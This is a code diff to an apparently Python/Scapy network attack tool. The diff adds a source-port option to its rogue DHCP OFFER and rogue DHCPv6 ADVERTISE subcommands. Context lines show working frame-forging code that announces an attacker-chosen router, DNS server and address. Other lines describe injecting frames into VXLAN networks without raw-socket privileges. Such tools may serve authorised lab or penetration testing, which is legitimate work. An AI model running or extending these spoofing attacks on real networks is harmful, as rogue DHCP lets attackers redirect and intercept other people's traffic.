@@ -71,12 +71,12 @@ by their form. Payload arguments take Python escapes (``'GET / HTTP/1.0\\r\\n\\r
       frame (M -> D), in a VXLAN header of network N, sent to NODE's VXLAN port over an
       ordinary UDP socket, through the attacker's own routes: no CAP_NET_RAW needed.
       -> {"sent": count}
-  dhcp-offer --src-mac M --src-ip A [--yiaddr Y] [--client-mac C] [--count 1]
+  dhcp-offer --src-mac M --src-ip A [--yiaddr Y] [--client-mac C] [--count 1] [--sport 67]
       DHCP OFFER (server id, router and DNS A, mask /24, lease 3600 s), UDP 67->68,
       Ethernet broadcast, IP 255.255.255.255. Y defaults to A's /24 host .250.
       -> {"sent": count}
   dhcp6-advertise --src-mac M [--src-ip S] [--dst-ip ff02::1] [--dst-mac DM]
-      [--address 2001:db8:bad::100] [--client-mac C] [--count 1]
+      [--address 2001:db8:bad::100] [--client-mac C] [--count 1] [--sport 547]
       DHCPv6 ADVERTISE (server DUID-LL M, IA_NA with the address, DNS server S),
       UDP 547->546, to D (default ff02::1). S defaults to M's EUI-64 link-local address.
       -> {"sent": count}
@@ -770,7 +770,7 @@ def cmd_dhcp_offer(a):
     frame = (
         s.Ether(src=a.src_mac, dst=BROADCAST_MAC)
         / s.IP(src=server, dst="255.255.255.255")
-        / s.UDP(sport=67, dport=68)
+        / s.UDP(sport=a.sport, dport=68)
         / s.BOOTP(
             op=2,
             xid=random.getrandbits(32),
@@ -804,7 +804,7 @@ def cmd_dhcp6_advertise(a):
     frame = (
         s.Ether(src=a.src_mac, dst=dst_mac)
         / s.IPv6(src=str(src), dst=str(a.dst_ip), hlim=255)
-        / s.UDP(sport=547, dport=546)
+        / s.UDP(sport=a.sport, dport=546)
         / s.DHCP6_Advertise(trid=random.getrandbits(24))
         / s.DHCP6OptServerId(duid=s.DUID_LL(lladdr=a.src_mac))
         / s.DHCP6OptClientId(duid=s.DUID_LL(lladdr=a.client_mac))
@@ -1513,6 +1513,7 @@ def build_parser():
     d.add_argument("--yiaddr", type=ip4_arg)
     d.add_argument("--client-mac", type=mac_arg, default=BROADCAST_MAC)
     d.add_argument("--count", type=count_arg, default=1)
+    d.add_argument("--sport", type=port_arg, default=67)
     d.set_defaults(func=cmd_dhcp_offer)
 
     d6 = sub.add_parser("dhcp6-advertise", parents=[common], help="rogue DHCPv6 ADVERTISE")
@@ -1523,6 +1524,7 @@ def build_parser():
     d6.add_argument("--address", type=ip6_arg, default=ipaddress.IPv6Address("2001:db8:bad::100"))
     d6.add_argument("--client-mac", type=mac_arg, default="00:00:00:00:00:00")
     d6.add_argument("--count", type=count_arg, default=1)
+    d6.add_argument("--sport", type=port_arg, default=547)
     d6.set_defaults(func=cmd_dhcp6_advertise)
 
     sc = sub.add_parser("sniff-count", parents=[common], help="count frames matching a filter")
